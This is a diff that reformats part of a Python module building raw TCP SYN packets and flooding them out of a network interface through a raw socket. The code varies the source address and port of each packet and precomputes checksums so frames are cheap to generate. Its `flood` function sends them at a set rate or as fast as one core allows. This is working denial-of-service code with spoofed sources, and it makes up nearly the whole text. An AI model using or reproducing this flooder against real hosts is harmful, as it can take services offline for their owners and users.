@@ -42,10 +42,33 @@ def maker(source_mac: bytes, target_mac: bytes, to: tuple[str, int]) -> Callable
     def frame(address: int, port: int, ip_sum: int, tcp_sum: int) -> bytes:
         # What the source address adds to the sums, the IP id and the high half of the sequence
         # number take away again; what the port adds, the low half.
-        return _FRAME.pack(target_mac, source_mac, 0x0800,
-                           0x45, 0, 40, 0xFFFF - address, 0, 64, 6, ip_sum, _SOURCE, address, high,
-                           low, port, to[1], 0xFFFF - address, 0xFFFF - port, 0, 0, _SYN, _WINDOW,
-                           tcp_sum, 0)
+        return _FRAME.pack(
+            target_mac,
+            source_mac,
+            0x0800,
+            0x45,
+            0,
+            40,
+            0xFFFF - address,
+            0,
+            64,
+            6,
+            ip_sum,
+            _SOURCE,
+            address,
+            high,
+            low,
+            port,
+            to[1],
+            0xFFFF - address,
+            0xFFFF - port,
+            0,
+            0,
+            _SYN,
+            _WINDOW,
+            tcp_sum,
+            0,
+        )
 
     first = frame(1, 1, 0, 0)
     ip_sum = fold(first[14:34])
@@ -58,8 +81,9 @@ def maker(source_mac: bytes, target_mac: bytes, to: tuple[str, int]) -> Callable
     return make
 
 
-def flood(interface: str, makers: Sequence[Callable[[int], bytes]], rate: float,
-          seconds: float) -> tuple[int, float]:
+def flood(
+    interface: str, makers: Sequence[Callable[[int], bytes]], rate: float, seconds: float
+) -> tuple[int, float]:
     """Send ``rate`` SYNs a second, or as many as one core can; give how many in what time."""
     sent = 0
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
